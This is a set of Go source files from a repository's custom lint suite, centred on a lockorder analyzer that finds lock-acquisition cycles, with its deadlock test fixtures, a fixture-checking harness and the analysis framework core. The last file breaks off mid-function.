func recordSpecAcquisitions(pass *analysis.Pass, fn *ast.FuncDecl, s *ast.ValueSpec, wireName string, inWire bool, acquired *[]acquisition) {
	for i, v := range s.Values {
		call, ok := v.(*ast.CallExpr)
		if !ok {
			continue
		}
		src, bufIdx, isProd := producerCall(call, wireName, inWire)
		if !isProd {
			continue
		}
		nameIdx := i
		if len(s.Values) == 1 && len(s.Names) > 1 {
			nameIdx = bufIdx
		}
		if nameIdx >= len(s.Names) {
			continue
		}
		id := s.Names[nameIdx]
		if id.Name == "_" {
			pass.Reportf(call.Pos(),
				"pooled buffer from %s bound to _ in %s; it can never be Released",
				src, fn.Name.Name)
			continue
		}
		*acquired = append(*acquired, acquisition{name: id.Name, pos: call, src: src})
	}
}

// producerCall reports whether call acquires a pooled buffer, returning a
// human-readable source label and the index of the *Buf in the call's
// result tuple.
func producerCall(call *ast.CallExpr, wireName string, inWire bool) (src string, bufIdx int, ok bool) {
	switch fun := call.Fun.(type) {
	case *ast.Ident:
		if idx, isProd := producers[fun.Name]; isProd && (inWire || wireName == ".") {
			return fun.Name, idx, true
		}
	case *ast.SelectorExpr:
		if fun.Sel.Name == decodeMethod {
			return decodeMethod, 1, true
		}
		if idx, isProd := producers[fun.Sel.Name]; isProd {
			if base, isIdent := fun.X.(*ast.Ident); isIdent && wireName != "" && base.Name == wireName {
				return wireName + "." + fun.Sel.Name, idx, true
			}
		}
	}
	return "", 0, false
}

// bareIdent unwraps a plain identifier (or its address) used as a value,
// the forms the analyzer accepts as ownership transfers. Method calls on
// the buffer (buf.Bytes(), buf.Len()) deliberately do not qualify: they
// borrow, and borrowing discharges nothing.
func bareIdent(e ast.Expr) (string, bool) {
	if u, ok := e.(*ast.UnaryExpr); ok {
		e = u.X
	}
	if id, ok := e.(*ast.Ident); ok && id.Name != "_" {
		return id.Name, true
	}
	return "", false
}
