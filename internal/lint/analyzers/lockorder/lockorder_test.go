package lockorder

import (
	"path/filepath"
	"testing"

	"banscore/internal/lint/analysistest"
)

func TestLockOrder(t *testing.T) {
	analysistest.RunTree(t, filepath.Join("testdata", "repo"), Analyzer)
}
