// Package observer is the negative fixture: consistent one-directional
// nesting and same-class sharded locks stay silent.
package observer

import "sync"

type shard struct{ mu sync.Mutex }

type Store struct {
	mu     sync.Mutex
	shards []shard
}

// rebalance holds the store lock over every shard — one direction only.
func (s *Store) rebalance() {
	s.mu.Lock()
	defer s.mu.Unlock()
	for i := range s.shards {
		s.shards[i].mu.Lock()
		s.shards[i].mu.Unlock()
	}
}

// merge nests two locks of the same class: sharded locks are index-
// ordered by convention and exempt from the cycle graph.
func (s *Store) merge(i, j int) {
	s.shards[i].mu.Lock()
	defer s.shards[i].mu.Unlock()
	s.shards[j].mu.Lock()
	s.shards[j].mu.Unlock()
}

// scoped release: taking the store lock after dropping a shard lock is
// not a nesting at all.
func (s *Store) sequential(i int) {
	s.shards[i].mu.Lock()
	s.shards[i].mu.Unlock()
	s.mu.Lock()
	s.mu.Unlock()
}
