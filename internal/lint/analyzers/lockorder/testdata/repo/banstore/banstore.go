// Package banstore seeds the interprocedural ABBA: the reverse edge only
// exists through a helper call.
package banstore

import "sync"

type Store struct{ mu sync.Mutex }

type Journal struct{ mu sync.Mutex }

type DB struct {
	s Store
	j Journal
}

// flush takes store then journal.
func (d *DB) flush() {
	d.s.mu.Lock()
	defer d.s.mu.Unlock()
	d.j.mu.Lock() // want `lock order cycle`
	d.j.mu.Unlock()
}

// compact takes the journal lock, then calls a helper that acquires the
// store lock — the reverse edge is visible only interprocedurally.
func (d *DB) compact() {
	d.j.mu.Lock()
	defer d.j.mu.Unlock()
	d.lockStore() // want `lock order cycle`
}

func (d *DB) lockStore() {
	d.s.mu.Lock()
	defer d.s.mu.Unlock()
}
