// Package core seeds the direct ABBA pair: two lock classes taken in
// both orders within one package.
package core

import "sync"

type A struct{ mu sync.Mutex }

type B struct{ mu sync.Mutex }

type Sys struct {
	a A
	b B
}

// ab locks a.mu then b.mu.
func (s *Sys) ab() {
	s.a.mu.Lock()
	defer s.a.mu.Unlock()
	s.b.mu.Lock() // want `lock order cycle`
	s.b.mu.Unlock()
}

// ba locks b.mu then a.mu — the reverse order; together with ab this is
// the ABBA deadlock pair.
func (s *Sys) ba() {
	s.b.mu.Lock()
	defer s.b.mu.Unlock()
	s.a.mu.Lock() // want `lock order cycle`
	s.a.mu.Unlock()
}
