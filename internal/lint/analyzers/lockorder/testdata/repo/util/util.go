// Package util sits outside the lockorder scope: an ABBA pair here is
// deliberately not reported — only the scoped packages' locks join the
// graph.
package util

import "sync"

type X struct{ mu sync.Mutex }

type Y struct{ mu sync.Mutex }

type Pair struct {
	x X
	y Y
}

func (p *Pair) xy() {
	p.x.mu.Lock()
	defer p.x.mu.Unlock()
	p.y.mu.Lock()
	p.y.mu.Unlock()
}

func (p *Pair) yx() {
	p.y.mu.Lock()
	defer p.y.mu.Unlock()
	p.x.mu.Lock()
	p.x.mu.Unlock()
}
