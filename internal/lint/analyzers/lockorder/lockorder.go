// Package lockorder defines the banlint analyzer that proves the repo's
// lock-acquisition order is cycle-free.
//
// The concurrent core's deadlock-freedom argument is a global order:
// tracker shard locks are held over forensics-ledger appends, the
// reputation engine nests peer shard → group shard → netgroup, banstore's
// store mutex and the observer's poll-state mutexes sit below their
// callers. Each nesting is locally documented, but the property that
// keeps the fleet from deadlocking is the conjunction — no pair of lock
// classes is ever taken in both orders anywhere in the tree. A single
// new call path that inverts one pair (an observer ingest that calls
// back into banstore under its own lock, say) compiles, passes tests
// that never hit the interleaving, and deadlocks in production.
//
// This analyzer makes the order structural. Over the banvet dataflow
// tier it builds the whole-repo lock-acquisition graph: a node per lock
// class (owning struct type + mutex field, for every sync.Mutex/RWMutex
// field of a struct in the scoped packages), and an edge A → B wherever
// B is acquired — directly or through any chain of calls, resolved
// interprocedurally — while A may be held. A cycle in that graph is an
// ABBA deadlock candidate and fails the build.
//
// Two deliberate exemptions keep the check sharp:
//
//   - Self-edges (a lock class acquired while another instance of the
//     same class is held) are ignored: sharded same-class locks are
//     index-ordered by convention, which this syntactic tier cannot
//     verify — lockhold still bounds what happens under them.
//   - Locks whose owner cannot be resolved syntactically are not
//     tracked; the graph covers the named mutex fields of the scoped
//     packages, which is where every documented nesting lives.
package lockorder

import (
	"go/ast"
	"go/token"
	"sort"
	"strings"

	"banscore/internal/lint/analysis"
	"banscore/internal/lint/analysis/banvet"
)

// DefaultScope lists the import-path segments whose struct-owned mutexes
// participate in the lock-order graph: the concurrent core, the
// crash-safe ban store, the fleet observer, and the reputation engine —
// the packages whose locks nest across calls.
var DefaultScope = []string{"core", "banstore", "observer", "reputation"}

// Analyzer is the lockorder check.
var Analyzer = &analysis.Analyzer{
	Name: "lockorder",
	Doc: "whole-repo lock-acquisition graph must be cycle-free\n\n" +
		"Builds the acquisition graph over every sync.Mutex/RWMutex field of " +
		"structs in the scoped packages (core, banstore, observer, " +
		"reputation), adding an edge A->B when B is acquired while A may be " +
		"held, including through interprocedural call chains. An ABBA cycle " +
		"is reported at each acquisition site on the cycle.",
	RunRepo: run,
}

// acquireOps / releaseOps name the mutex methods that take and drop a
// lock. Read and write sides map to the same lock class: ordering, not
// exclusion, is what the graph tracks.
var acquireOps = map[string]bool{"Lock": true, "RLock": true}
var releaseOps = map[string]bool{"Unlock": true, "RUnlock": true}

func run(pass *analysis.RepoPass) error {
	c := &checker{
		pass:       pass,
		ix:         banvet.NewIndex(pass.Units),
		lockFields: map[banvet.TypeRef]map[string]bool{},
		mayAcq:     map[*banvet.Func]map[string]bool{},
	}
	c.findLockFields()
	if len(c.lockFields) == 0 {
		return nil
	}
	// Interprocedural fixpoint: which lock classes may each function
	// acquire, transitively.
	for _, f := range c.ix.Funcs {
		c.mayAcq[f] = map[string]bool{}
	}
	for changed := true; changed; {
		changed = false
		for _, f := range c.ix.Funcs {
			if c.updateMayAcquire(f) {
				changed = true
			}
		}
	}
	// Edge collection: a held-set dataflow per function.
	for _, f := range c.ix.Funcs {
		c.collectEdges(f)
	}
	c.reportCycles()
	return nil
}

// edge is one observed ordered acquisition A then B, at its first site.
type edge struct {
	from, to string
	unit     *analysis.RepoUnit
	pos      token.Pos
	inFunc   string
}

type checker struct {
	pass *analysis.RepoPass
	ix   *banvet.Index

	// lockFields: owner struct type -> mutex field names.
	lockFields map[banvet.TypeRef]map[string]bool

	// mayAcq: lock classes a function may acquire, transitively.
	mayAcq map[*banvet.Func]map[string]bool

	// edges, keyed "from\x00to", first site wins (deterministic: funcs
	// and blocks iterate in declaration order).
	edges    map[string]*edge
	edgeKeys []string
}

func (c *checker) findLockFields() {
	for _, u := range c.pass.Units {
		inScope := false
		for _, seg := range DefaultScope {
			if u.HasPathSegment(seg) {
				inScope = true
				break
			}
		}
		if !inScope {
			continue
		}
		for _, file := range u.Files {
			for _, decl := range file.Decls {
				gd, ok := decl.(*ast.GenDecl)
				if !ok {
					continue
				}
				for _, spec := range gd.Specs {
					ts, ok := spec.(*ast.TypeSpec)
					if !ok {
						continue
					}
					if _, ok := ts.Type.(*ast.StructType); !ok {
						continue
					}
					owner := banvet.TypeRef{Pkg: u.PkgPath, Name: ts.Name.Name}
					for name, ft := range c.ix.Struct(owner) {
						if ft.Pkg == "sync" && (ft.Name == "Mutex" || ft.Name == "RWMutex") {
							if c.lockFields[owner] == nil {
								c.lockFields[owner] = map[string]bool{}
							}
							c.lockFields[owner][name] = true
						}
					}
				}
			}
		}
	}
}

// lockClass resolves a mutex method call to its lock class key ("" when
// the receiver is not a tracked struct-owned mutex). The call shape is
// owner.field.Lock(): the selector's base types the owning struct, the
// selector names the mutex field.
func (c *checker) lockClass(f *banvet.Func, env map[string]banvet.TypeRef, call *ast.CallExpr) (key string, op string) {
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok || (!acquireOps[sel.Sel.Name] && !releaseOps[sel.Sel.Name]) {
		return "", ""
	}
	ms, ok := sel.X.(*ast.SelectorExpr)
	if !ok {
		return "", ""
	}
	owner := c.ix.TypeOf(f, env, ms.X)
	if owner.IsZero() || !c.lockFields[owner][ms.Sel.Name] {
		return "", ""
	}
	return owner.String() + "." + ms.Sel.Name, sel.Sel.Name
}

// lockOps extracts the tracked lock operations of one CFG node in
// evaluation order, skipping function literals (they run elsewhere) and
// defers (a deferred unlock releases at return, not here — the lock is
// held for the rest of the body).
type lockOp struct {
	key     string
	acquire bool
	pos     token.Pos
	call    *ast.CallExpr
}

func (c *checker) nodeOps(f *banvet.Func, env map[string]banvet.TypeRef, n ast.Node) []lockOp {
	var ops []lockOp
	var walk func(ast.Node)
	walk = func(n ast.Node) {
		ast.Inspect(n, func(m ast.Node) bool {
			switch m := m.(type) {
			case *ast.FuncLit:
				return false
			case *ast.DeferStmt:
				return false
			case *ast.RangeStmt:
				// Body statements live in their own blocks.
				if m.Key != nil {
					walk(m.Key)
				}
				if m.Value != nil {
					walk(m.Value)
				}
				walk(m.X)
				return false
			case *ast.CallExpr:
				if key, op := c.lockClass(f, env, m); key != "" {
					ops = append(ops, lockOp{key: key, acquire: acquireOps[op], pos: m.Pos(), call: m})
				} else {
					ops = append(ops, lockOp{call: m, pos: m.Pos()})
				}
			}
			return true
		})
	}
	walk(n)
	return ops
}

// calleeAcquires returns the lock classes the call may acquire,
// transitively. Only exact resolutions (typed receiver, import-qualified
// or same-package name) are traversed: the name-only fallback may-set
// would conflate same-named methods of unrelated types (both banstore
// and observer own a Store with a Sync), and a build-failing gate cannot
// afford cycles invented by name coincidence. The cost is that a lock
// taken behind an interface call is not seen — the scoped packages call
// their lock-owning neighbors concretely.
func (c *checker) calleeAcquires(f *banvet.Func, env map[string]banvet.TypeRef, call *ast.CallExpr) map[string]bool {
	callees, exact := c.ix.Callees(f, env, call)
	if !exact || len(callees) == 0 {
		return nil
	}
	out := map[string]bool{}
	for _, g := range callees {
		for k := range c.mayAcq[g] {
			out[k] = true
		}
	}
	return out
}

func (c *checker) updateMayAcquire(f *banvet.Func) bool {
	if f.Decl.Body == nil {
		return false
	}
	env := c.ix.Env(f)
	acq := c.mayAcq[f]
	grew := false
	add := func(k string) {
		if !acq[k] {
			acq[k] = true
			grew = true
		}
	}
	for _, b := range f.CFG().Blocks {
		for _, n := range b.Nodes {
			for _, op := range c.nodeOps(f, env, n) {
				if op.key != "" {
					if op.acquire {
						add(op.key)
					}
					continue
				}
				for k := range c.calleeAcquires(f, env, op.call) {
					add(k)
				}
			}
		}
	}
	return grew
}

// collectEdges runs the may-hold dataflow over f and records every
// ordered acquisition pair.
func (c *checker) collectEdges(f *banvet.Func) {
	if f.Decl.Body == nil {
		return
	}
	env := c.ix.Env(f)
	transfer := func(b *banvet.Block, held banvet.Facts) banvet.Facts {
		for _, n := range b.Nodes {
			for _, op := range c.nodeOps(f, env, n) {
				if op.key == "" {
					continue
				}
				if op.acquire {
					held[op.key] = true
				} else {
					delete(held, op.key)
				}
			}
		}
		return held
	}
	in := banvet.Forward(f.CFG(), banvet.Facts{}, transfer)
	for _, b := range f.CFG().Blocks {
		held := in[b].Clone()
		for _, n := range b.Nodes {
			for _, op := range c.nodeOps(f, env, n) {
				if op.key != "" {
					if op.acquire {
						for a := range held {
							c.addEdge(a, op.key, f, op.pos)
						}
						held[op.key] = true
					} else {
						delete(held, op.key)
					}
					continue
				}
				if len(held) == 0 {
					continue
				}
				for to := range c.calleeAcquires(f, env, op.call) {
					for a := range held {
						c.addEdge(a, to, f, op.pos)
					}
				}
			}
		}
	}
}

func (c *checker) addEdge(from, to string, f *banvet.Func, pos token.Pos) {
	if from == to {
		return // same-class nesting: index-ordered by convention
	}
	k := from + "\x00" + to
	if c.edges == nil {
		c.edges = map[string]*edge{}
	}
	if _, ok := c.edges[k]; ok {
		return
	}
	c.edges[k] = &edge{from: from, to: to, unit: f.Unit, pos: pos, inFunc: f.QName()}
	c.edgeKeys = append(c.edgeKeys, k)
}

// reportCycles finds strongly connected components of the acquisition
// graph and reports every edge inside a multi-node SCC at its site.
func (c *checker) reportCycles() {
	adj := map[string][]string{}
	nodes := map[string]bool{}
	for _, k := range c.edgeKeys {
		e := c.edges[k]
		adj[e.from] = append(adj[e.from], e.to)
		nodes[e.from], nodes[e.to] = true, true
	}
	scc := tarjan(nodes, adj)
	comp := map[string]int{}
	for i, group := range scc {
		for _, n := range group {
			comp[n] = i
		}
	}
	for _, k := range c.edgeKeys {
		e := c.edges[k]
		if comp[e.from] != comp[e.to] || len(scc[comp[e.from]]) < 2 {
			continue
		}
		members := append([]string(nil), scc[comp[e.from]]...)
		sort.Strings(members)
		c.pass.Reportf(e.unit, e.pos,
			"lock order cycle: %s acquired while %s is held in %s, but the reverse order also occurs (cycle members: %s)",
			e.to, e.from, e.inFunc, strings.Join(members, ", "))
	}
}

// tarjan computes strongly connected components; deterministic because
// roots iterate in sorted order.
func tarjan(nodes map[string]bool, adj map[string][]string) [][]string {
	var order []string
	for n := range nodes {
		order = append(order, n)
	}
	sort.Strings(order)
	for _, succs := range adj {
		sort.Strings(succs)
	}

	index := map[string]int{}
	low := map[string]int{}
	onStack := map[string]bool{}
	var stack []string
	var out [][]string
	next := 0

	var strongconnect func(v string)
	strongconnect = func(v string) {
		index[v] = next
		low[v] = next
		next++
		stack = append(stack, v)
		onStack[v] = true
		for _, w := range adj[v] {
			if _, seen := index[w]; !seen {
				strongconnect(w)
				if low[w] < low[v] {
					low[v] = low[w]
				}
			} else if onStack[w] && index[w] < low[v] {
				low[v] = index[w]
			}
		}
		if low[v] == index[v] {
			var group []string
			for {
				w := stack[len(stack)-1]
				stack = stack[:len(stack)-1]
				onStack[w] = false
				group = append(group, w)
				if w == v {
					break
				}
			}
			out = append(out, group)
		}
	}
	for _, v := range order {
		if _, seen := index[v]; !seen {
			strongconnect(v)
		}
	}
	return out
}
