// Package banlint assembles the repository's analyzer suite — the single
// list cmd/banlint, the analysistest fixtures, and the repo-cleanliness
// test all share, so "what banlint checks" has exactly one definition.
//
// The suite enforces the invariants the concurrent core's correctness
// arguments rest on (see DESIGN.md, "Checked invariants"):
//
//	wallclock    no ambient time / global math/rand in determinism-
//	             critical packages (simnet, experiments, vclock)
//	errsentinel  sentinel errors matched with errors.Is, never ==/!= or
//	             error-text comparison
//	lockhold     no blocking operations while holding a mutex
//	metriclabel  metric names and label keys are compile-time constants
//	gospawn      go statements in node/peer route through the supervised
//	             spawn helpers
//	bufrelease   pooled wire buffers (GetBuf, EncodeMessage,
//	             DecodeMessage) reach Release/Detach or are handed onward
package banlint

import (
	"banscore/internal/lint/analysis"
	"banscore/internal/lint/analyzers/allocbudget"
	"banscore/internal/lint/analyzers/bufrelease"
	"banscore/internal/lint/analyzers/errsentinel"
	"banscore/internal/lint/analyzers/evidenceflow"
	"banscore/internal/lint/analyzers/gospawn"
	"banscore/internal/lint/analyzers/lockhold"
	"banscore/internal/lint/analyzers/lockorder"
	"banscore/internal/lint/analyzers/metriclabel"
	"banscore/internal/lint/analyzers/wallclock"
)

// Analyzers returns the full banlint suite, sorted by name.
func Analyzers() []*analysis.Analyzer {
	return []*analysis.Analyzer{
		allocbudget.Analyzer,
		bufrelease.Analyzer,
		errsentinel.Analyzer,
		evidenceflow.Analyzer,
		gospawn.Analyzer,
		lockhold.Analyzer,
		lockorder.Analyzer,
		metriclabel.Analyzer,
		wallclock.Analyzer,
	}
}

// ByName returns the analyzer with the given name, or nil.
func ByName(name string) *analysis.Analyzer {
	for _, a := range Analyzers() {
		if a.Name == name {
			return a
		}
	}
	return nil
}
