package banlint

import (
	"os"
	"path/filepath"
	"testing"

	"banscore/internal/lint/loader"
	"banscore/internal/lint/runner"
)

// TestRepoIsLintClean is the merge gate in test form: the whole tree must
// carry zero banlint findings, at cmd/banlint's default scope (test files
// excluded — tests measuring real elapsed behavior may consult the real
// clock; `banlint -tests` exists for opt-in auditing). A failure here
// prints exactly what cmd/banlint would.
func TestRepoIsLintClean(t *testing.T) {
	root, err := moduleRoot()
	if err != nil {
		t.Fatalf("locate module root: %v", err)
	}
	pkgs, err := loader.LoadTree(root, loader.Config{IncludeTests: false})
	if err != nil {
		t.Fatalf("load tree: %v", err)
	}
	if len(pkgs) == 0 {
		t.Fatal("no packages under module root")
	}
	per, err := runner.RunTree(pkgs, Analyzers())
	if err != nil {
		t.Fatalf("run analyzers: %v", err)
	}
	for i, pkg := range pkgs {
		for _, f := range runner.Resolve(pkg, per[i]) {
			t.Errorf("%s", f)
		}
	}
}

// moduleRoot walks up from the working directory to the nearest go.mod.
func moduleRoot() (string, error) {
	dir, err := os.Getwd()
	if err != nil {
		return "", err
	}
	for {
		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
			return dir, nil
		}
		parent := filepath.Dir(dir)
		if parent == dir {
			return "", os.ErrNotExist
		}
		dir = parent
	}
}

func TestByName(t *testing.T) {
	for _, a := range Analyzers() {
		if got := ByName(a.Name); got != a {
			t.Errorf("ByName(%q) did not return the registered analyzer", a.Name)
		}
	}
	if ByName("nosuch") != nil {
		t.Error("ByName of an unknown name should be nil")
	}
}
