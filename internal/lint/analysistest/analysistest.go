// Package analysistest verifies analyzers against fixture packages, in
// the style of golang.org/x/tools/go/analysis/analysistest: fixture files
// mark the lines where diagnostics are expected with trailing comments of
// the form
//
//	// want "regexp"
//	// want `regexp one` `regexp two`
//
// Each quoted pattern must match the message of exactly one diagnostic
// reported on that line, and every reported diagnostic must be claimed by
// a pattern. The harness runs the full driver pipeline — analyzers, then
// //lint:allow suppression — so fixtures exercise escape comments and
// malformed-directive reporting exactly as cmd/banlint would.
package analysistest

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"banscore/internal/lint/analysis"
	"banscore/internal/lint/loader"
	"banscore/internal/lint/runner"
)

// Run loads the fixture package at dir, applies the analyzers through the
// shared driver pipeline, and compares the findings against the fixture's
// // want expectations.
func Run(t *testing.T, dir string, analyzers ...*analysis.Analyzer) {
	t.Helper()
	pkg, err := loader.LoadDir(dir, loader.Config{IncludeTests: true})
	if err != nil {
		t.Fatalf("load fixture %s: %v", dir, err)
	}
	if pkg == nil {
		t.Fatalf("fixture %s contains no Go files", dir)
	}
	check(t, []*loader.Package{pkg}, analyzers)
}

// RunTree loads every fixture package under root — a multi-package
// fixture tree — and applies the analyzers through the whole-tree driver
// pipeline, so repo-level analyzers see the packages together and
// cross-package properties (interprocedural taint, the lock-order graph)
// are exercised exactly as cmd/banlint would over the real tree. The
// // want expectations of every file in the tree are checked.
func RunTree(t *testing.T, root string, analyzers ...*analysis.Analyzer) {
	t.Helper()
	pkgs, err := loader.LoadTree(root, loader.Config{IncludeTests: true})
	if err != nil {
		t.Fatalf("load fixture tree %s: %v", root, err)
	}
	if len(pkgs) == 0 {
		t.Fatalf("fixture tree %s contains no Go packages", root)
	}
	check(t, pkgs, analyzers)
}

// check runs the driver pipeline over the fixture packages and claims
// every finding against the fixtures' // want expectations.
func check(t *testing.T, pkgs []*loader.Package, analyzers []*analysis.Analyzer) {
	t.Helper()
	per, err := runner.RunTree(pkgs, analyzers)
	if err != nil {
		t.Fatalf("run analyzers: %v", err)
	}
	var findings []runner.Finding
	var expects []expectation
	for i, pkg := range pkgs {
		findings = append(findings, runner.Resolve(pkg, per[i])...)
		exp, err := parseExpectations(pkg)
		if err != nil {
			t.Fatalf("parse expectations in %s: %v", pkg.Dir, err)
		}
		expects = append(expects, exp...)
	}

	// Claim findings with expectations, line by line.
	claimed := make([]bool, len(findings))
	for _, exp := range expects {
		matched := false
		for i, f := range findings {
			if claimed[i] || f.File != exp.file || f.Line != exp.line {
				continue
			}
			if exp.re.MatchString(f.Message) {
				claimed[i] = true
				matched = true
				break
			}
		}
		if !matched {
			t.Errorf("%s:%d: expected diagnostic matching %q, got none", exp.file, exp.line, exp.re)
		}
	}
	for i, f := range findings {
		if !claimed[i] {
			t.Errorf("%s: unexpected diagnostic: %s: %s", location(f), f.Analyzer, f.Message)
		}
	}
}

func location(f runner.Finding) string {
	return fmt.Sprintf("%s:%d:%d", f.File, f.Line, f.Column)
}

// expectation is one parsed // want pattern.
type expectation struct {
	file string
	line int
	re   *regexp.Regexp
}

// parseExpectations scans the fixture sources line by line for // want
// comments. Scanning raw text (rather than the comment AST) lets a line
// whose comment is itself under test — a malformed //lint:allow — still
// carry an expectation.
func parseExpectations(pkg *loader.Package) ([]expectation, error) {
	var out []expectation
	for _, f := range pkg.Files {
		name := pkg.Fset.Position(f.Pos()).Filename
		data, err := os.ReadFile(name)
		if err != nil {
			return nil, err
		}
		for i, line := range strings.Split(string(data), "\n") {
			idx := strings.Index(line, "// want ")
			if idx < 0 {
				continue
			}
			patterns, err := parsePatterns(strings.TrimSpace(line[idx+len("// want "):]))
			if err != nil {
				return nil, fmt.Errorf("%s:%d: %w", filepath.Base(name), i+1, err)
			}
			for _, p := range patterns {
				re, err := regexp.Compile(p)
				if err != nil {
					return nil, fmt.Errorf("%s:%d: bad pattern %q: %w", filepath.Base(name), i+1, p, err)
				}
				out = append(out, expectation{file: name, line: i + 1, re: re})
			}
		}
	}
	return out, nil
}

// parsePatterns splits a want body into its quoted regexps. Both Go string
// syntax ("...") and raw backquotes (`...`) are accepted.
func parsePatterns(body string) ([]string, error) {
	var out []string
	for body != "" {
		body = strings.TrimSpace(body)
		if body == "" {
			break
		}
		switch body[0] {
		case '"':
			end := -1
			for i := 1; i < len(body); i++ {
				if body[i] == '"' && body[i-1] != '\\' {
					end = i
					break
				}
			}
			if end < 0 {
				return nil, fmt.Errorf("unterminated quoted pattern in %q", body)
			}
			s, err := strconv.Unquote(body[:end+1])
			if err != nil {
				return nil, fmt.Errorf("bad quoted pattern %q: %w", body[:end+1], err)
			}
			out = append(out, s)
			body = body[end+1:]
		case '`':
			end := strings.IndexByte(body[1:], '`')
			if end < 0 {
				return nil, fmt.Errorf("unterminated raw pattern in %q", body)
			}
			out = append(out, body[1:end+1])
			body = body[end+2:]
		default:
			return nil, fmt.Errorf("want pattern must be quoted or backquoted, got %q", body)
		}
	}
	if len(out) == 0 {
		return nil, fmt.Errorf("want comment carries no patterns")
	}
	return out, nil
}
