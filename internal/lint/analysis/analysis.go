// Package analysis is a dependency-free reimplementation of the core of
// golang.org/x/tools/go/analysis, sized to this repository's needs. The
// build environment vendors no third-party modules, so the banlint suite
// (see internal/lint/banlint) runs on this framework instead; the API
// mirrors x/tools closely enough that an analyzer written here ports to the
// upstream framework by changing one import when the dependency becomes
// available.
//
// The unit of work is the Analyzer: a named check with a Run function that
// inspects one package's syntax trees through a Pass and reports
// Diagnostics. Analyzers in this framework are purely syntactic — there is
// no type information and no cross-package fact propagation — which is a
// deliberate trade: every invariant banlint enforces (wall-clock calls,
// sentinel-error comparisons, lock-region blocking, metric-name constancy,
// go-statement supervision) is visible in a single file's syntax plus its
// import table.
//
// Suppression: a finding can be waived in place with an escape comment of
// the form
//
//	//lint:allow <analyzer>(<reason>)
//
// either trailing the offending line or alone on the line directly above
// it. The reason is mandatory: a bare //lint:allow, an empty reason, or a
// malformed directive is itself reported as a diagnostic (analyzer name
// "lintdirective"), so waivers stay auditable. One directive waives only
// the named analyzer's findings on its target line.
package analysis

import (
	"fmt"
	"go/ast"
	"go/token"
	"sort"
)

// An Analyzer is one named static check. Exactly one of Run and RunRepo
// is set: Run for per-package syntactic checks, RunRepo for whole-repo
// dataflow checks that need every package at once (the banvet tier).
type Analyzer struct {
	// Name identifies the analyzer in diagnostics and in
	// //lint:allow directives. By convention it is a single
	// lowercase word.
	Name string

	// Doc is the analyzer's documentation: a one-line summary,
	// a blank line, then detail.
	Doc string

	// Run applies the check to one package. Nil for repo-level
	// analyzers.
	Run func(*Pass) error

	// RunRepo applies the check once across every loaded package. The
	// driver presents the whole tree as a RepoPass; diagnostics are
	// attributed back to the unit (package) they fall in, so the
	// //lint:allow suppression pass applies to repo-level findings
	// exactly as it does to per-package ones. Nil for per-package
	// analyzers.
	RunRepo func(*RepoPass) error
}

// A Pass presents one package to an Analyzer and collects its findings.
type Pass struct {
	// Analyzer is the check being run.
	Analyzer *Analyzer

	// Fset maps positions in Files.
	Fset *token.FileSet

	// Files are the package's parsed syntax trees, with comments.
	Files []*ast.File

	// PkgName is the package's declared name (the `package` clause).
	PkgName string

	// PkgPath is the package's import path — module-qualified when the
	// loader found a go.mod, otherwise directory-derived. Analyzers that
	// scope themselves to particular packages match on its "/"-separated
	// segments (see HasPathSegment).
	PkgPath string

	// Report delivers one finding.
	Report func(Diagnostic)
}

// Reportf reports a finding at pos with a formatted message.
func (p *Pass) Reportf(pos token.Pos, format string, args ...any) {
	p.Report(Diagnostic{Pos: pos, Analyzer: p.Analyzer.Name, Message: fmt.Sprintf(format, args...)})
}

// HasPathSegment reports whether the package's import path contains the
// given "/"-separated segment — the matching rule scope-limited analyzers
// use so that "banscore/internal/simnet" and an analysistest fixture
// loaded as plain "simnet" are both in scope for segment "simnet".
func (p *Pass) HasPathSegment(segment string) bool {
	return PathHasSegment(p.PkgPath, segment)
}

// PathHasSegment reports whether the "/"-separated import path contains
// the given segment.
func PathHasSegment(path, segment string) bool {
	for len(path) > 0 {
		i := 0
		for i < len(path) && path[i] != '/' {
			i++
		}
		if path[:i] == segment {
			return true
		}
		if i == len(path) {
			break
		}
		path = path[i+1:]
	}
	return false
}

// A RepoUnit is one package as presented to a repo-level analyzer: the
// same syntax surface a Pass carries, without the reporting half.
type RepoUnit struct {
	// Fset maps positions in Files. Each unit owns its FileSet; a
	// repo-level diagnostic is resolvable only against the unit it was
	// reported under.
	Fset *token.FileSet

	// Files are the package's parsed syntax trees, with comments.
	Files []*ast.File

	// PkgName is the package's declared name.
	PkgName string

	// PkgPath is the package's import path (see Pass.PkgPath).
	PkgPath string
}

// HasPathSegment reports whether the unit's import path contains the
// given "/"-separated segment.
func (u *RepoUnit) HasPathSegment(segment string) bool {
	return PathHasSegment(u.PkgPath, segment)
}

// A RepoPass presents the whole loaded tree to a repo-level Analyzer.
type RepoPass struct {
	// Analyzer is the check being run.
	Analyzer *Analyzer

	// Units are the loaded packages, sorted by import path.
	Units []*RepoUnit

	// Report delivers one finding, attributed to the unit whose FileSet
	// resolves its position.
	Report func(*RepoUnit, Diagnostic)
}

// Reportf reports a finding at pos (a position in unit's FileSet) with a
// formatted message.
func (p *RepoPass) Reportf(unit *RepoUnit, pos token.Pos, format string, args ...any) {
	p.Report(unit, Diagnostic{Pos: pos, Analyzer: p.Analyzer.Name, Message: fmt.Sprintf(format, args...)})
}

// ImportName returns the local name under which file imports the package
// with the given import path ("" when the file does not import it, "." for
// dot imports, the alias when renamed, the path's base name otherwise).
// Analyzers use it to resolve selector bases like time.Now without type
// information, respecting aliased imports.
func ImportName(file *ast.File, path string) string {
	for _, imp := range file.Imports {
		if imp.Path == nil || len(imp.Path.Value) < 2 {
			continue
		}
		p := imp.Path.Value[1 : len(imp.Path.Value)-1]
		if p != path {
			continue
		}
		if imp.Name != nil {
			return imp.Name.Name
		}
		base := p
		for i := len(p) - 1; i >= 0; i-- {
			if p[i] == '/' {
				base = p[i+1:]
				break
			}
		}
		return base
	}
	return ""
}

// A Diagnostic is one reported finding.
type Diagnostic struct {
	// Pos locates the finding.
	Pos token.Pos

	// Analyzer names the check that produced it (or "lintdirective" for
	// malformed suppression comments).
	Analyzer string

	// Message describes the finding.
	Message string
}

// SortDiagnostics orders diagnostics by position, then analyzer, then
// message — the stable order drivers and tests rely on.
func SortDiagnostics(fset *token.FileSet, diags []Diagnostic) {
	sort.SliceStable(diags, func(i, j int) bool {
		pi, pj := fset.Position(diags[i].Pos), fset.Position(diags[j].Pos)
		if pi.Filename != pj.Filename {
			return pi.Filename < pj.Filename
		}
		if pi.Line != pj.Line {
			return pi.Line < pj.Line
		}
